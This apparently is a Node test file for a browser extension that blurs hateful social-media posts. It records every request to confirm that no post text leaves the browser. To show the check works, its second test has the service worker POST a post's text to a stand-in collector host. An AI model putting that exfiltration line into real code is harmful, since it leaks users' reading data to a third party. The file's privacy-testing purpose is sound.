// Nothing a reader reads leaves the browser. Every request of every part
// of the browser is recorded (pages and frames, the extension's service
// worker, offscreen document and workers, through a second DevTools
// client; every connection, through the proxy that is the browser's only
// way out) while the reader goes through every feed, reveals and corrects
// posts, a rule update arrives and the popup is opened. The extension
// makes only requests for its own files and the sync WebSocket, whose
// frames name lists and versions and carry no post text.

import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { SITES, expectedPosts, posts as fixtures } from '../lib/feeds.js';
import { privacyProblems } from '../lib/privacy.js';
import { BROWSERS, TITLE, skipReason, startEnv, messages } from './helpers.js';


for (const browser of BROWSERS) describe(`no request carries post text in ${TITLE[browser]}`, { skip: skipReason(browser) }, () => {
  let env;
  let h;
  let server;
  const t = messages();
  const texts = [...Object.keys(SITES).flatMap(s => expectedPosts(s).map(p => p.text)), ...fixtures.update.posts.map(p => p.text)];
  const pageHosts = new Set(Object.values(SITES).map(s => s.host));
  const check = () => privacyProblems({
    requests: h.requests, connections: h.connections, server, aliases: ['127.0.0.1:8787'], pageHosts, texts,
  });

  before(async () => {
    const { list } = fixtures.update;
    env = await startEnv({ browser, prepare: s => s.publish({ id: list.id, version: 1, name: list.name, langs: list.langs, rules: [list.rules[1]] }) });
    ({ h, server } = env);
  });
  after(async () => { await env?.close(); });

  it('while a reader reads every feed, reveals, corrects, gets an update and opens the popup', async tc => {
    for (const site of Object.keys(SITES)) {
      const page = await h.openFeed(site, { live: site === 'x' });
      if (site === 'x') {
        await h.reveal(page, 'x-2');
        await h.press(page, 'x-5', t('notHate'));
        const { list } = fixtures.update;
        await server.publish({ id: list.id, version: 2, name: list.name, langs: list.langs, rules: list.rules });
        await h.waitForVerdict(page, 'x-live', 'blurred', { timeoutMs: 10000 });
        const popup = await h.openPopup();
        await popup.waitForLoadState('load');
        await popup.close();
      }
      await page.close();
    }
    const extensionRequests = h.requests.filter(r => r.target.extension);
    assert.ok(extensionRequests.some(r => r.kind === 'ws-frame'), 'the recorder saw the sync WebSocket\'s frames');
    if (browser === 'chromium') assert.ok(extensionRequests.some(r => r.url.startsWith('chrome-extension://')), 'the recorder saw the extension\'s own requests');
    // Firefox: the proxy knows the extension by the Origin of its requests.
    else assert.ok(extensionRequests.some(r => r.kind === 'ws-handshake' && /^moz-extension:/.test(r.target.url)), 'the recorder knew the extension by its origin');
    const frames = extensionRequests.filter(r => r.kind === 'ws-frame').length;
    tc.diagnostic(`${h.requests.length} requests recorded: ${extensionRequests.length} by the extension (${frames} WebSocket frames sent), ${h.requests.length - extensionRequests.length} by pages; ${h.connections.length} connections through the proxy, ${h.connections.filter(c => !c.allowed).length} refused (the browser's own services)`);
    const problems = check();
    assert.deepEqual(problems, [], problems.join('\n'));
  });

  it('the check catches a request that carries post text (it can fail)', async () => {
    const before = h.requests.length;
    const sw = await h.serviceWorker();
    const leak = expectedPosts('x').find(p => p.id === 'x-2').text;
    await sw.evaluate(body => fetch('http://collector.example.net/collect', { method: 'POST', body }).catch(() => {}), leak);
    const deadline = Date.now() + 5000;
    while (!h.requests.slice(before).some(r => r.url.includes('/collect')) && Date.now() < deadline) await new Promise(r => setTimeout(r, 50));
    const problems = check();
    assert.ok(problems.some(p => p.includes('/collect') && p.includes('carries post text')), `flagged: ${problems.join('\n')}`);
    assert.ok(problems.some(p => p.includes('/collect') && p.includes('neither the extension\'s own')), 'and its destination');
  });
});
